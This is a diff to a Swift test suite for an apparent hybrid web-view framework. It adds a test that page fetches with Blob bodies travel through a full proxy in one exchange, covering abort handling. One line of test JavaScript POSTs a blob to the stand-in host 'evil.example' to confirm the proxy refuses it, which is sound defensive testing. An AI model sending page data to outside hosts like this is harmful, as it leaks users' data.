@@ -42,8 +42,11 @@ import Testing
         let rows = try await BodiesConformance.run(in: lab)
         for row in BodiesConformance.unexplainedFailures(rows) { Issue.record("\(row)") }
         #expect(rows.count > 60)
-        // Every Blob, File, FormData-with-file, stream and Request body of both strategies and both APIs.
-        #expect(channel.routes.uploadsOpened >= 20, "\(channel.routes.uploadsOpened) uploads over the channel")
+        // Every Blob, File, FormData-with-file, stream and Request body of both strategies and both APIs: uploads,
+        // and full-proxy fetches in one exchange.
+        let over = channel.routes.uploadsOpened + channel.routes.proxiesOpened
+        #expect(over >= 20, "\(channel.routes.uploadsOpened) uploads, \(channel.routes.proxiesOpened) proxied")
+        #expect(channel.routes.proxiesOpened >= 5, "\(channel.routes.proxiesOpened) fetches in one exchange")
         #expect(lab.interception.handler.store.count == 0)
     }
 
@@ -258,7 +261,47 @@ import Testing
             #expect(posted, "\(side): \(seen.prefix(300))")
             #expect(!leaked, "\(side): the page saw the key in \(Self.around(key, in: seen))")
         }
-        #expect(channel.routes.uploadsOpened >= 4)
+        #expect(channel.routes.uploadsOpened + channel.routes.proxiesOpened >= 4)
+    }
+
+    /// A full-proxy fetch with a Blob goes in one exchange with the channel: no reservation, no upload, no second
+    /// request; the page sees the server's answer as from the scheme's proxy path. An abort reaches the proxy, and a
+    /// request the proxy refuses rejects with its message and is not sent again the other way.
+    @Test @GTKActor func aFullProxyFetchGoesInOneExchange() async throws {
+        let (lab, channel) = try await Self.lab()
+        defer {
+            lab.close()
+            channel.stop()
+        }
+        try await lab.load(lab.pageURL(.fullProxy))
+        let answer = try await lab.run(
+            """
+            (async () => {
+              const blob = new Blob([new Uint8Array(2 * 1024 * 1024).map((_, i) => i % 253)], { type: 'application/x-test' });
+              const response = await fetch('/echo?x=1', { method: 'POST', body: blob, headers: { 'X-Page': 'yes' } });
+              const report = await response.json();
+              const second = await (await fetch('/echo', { method: 'PUT', body: blob.slice(0, 5000) })).json();
+              const aborted = await (async () => {
+                const controller = new AbortController();
+                const sent = fetch('/echo', { method: 'POST', body: blob, signal: controller.signal });
+                controller.abort();
+                try { await sent; return 'resolved'; } catch (error) { return error.name; }
+              })();
+              const refused = await fetch('http://evil.example/', { method: 'POST', body: blob })
+                .then(() => 'sent', (error) => error.name + ': ' + error.message);
+              return [report.length, report.method, report.contentType, response.status, response.url,
+                response.headers.has('X-Hybrid-Head'), second.length, second.method, aborted, refused];
+            })()
+            """)
+        #expect(answer.hasPrefix("[2097152,\"POST\",\"application/x-test\",200,"), "\(answer)")
+        #expect(answer.contains("/echo?x=1\",false,5000,\"PUT\",\"AbortError\""), "\(answer)")
+        #expect(answer.contains("TypeError: HybridKit proxy:") && answer.contains("evil.example"), "\(answer)")
+        // One exchange per fetch (the aborted one may not have left the page); no upload and no body left.
+        #expect((3...4).contains(channel.routes.proxiesOpened), "\(channel.routes.proxiesOpened)")
+        #expect(channel.routes.uploadsOpened == 0)
+        #expect(channel.routes.preflightsAllowed == 1, "the engine asked \(channel.routes.preflightsAllowed) times")
+        #expect(lab.interception.handler.store.count == 0)
+        #expect(lab.interception.handler.proxiedCount == 0)
     }
 }
 #endif
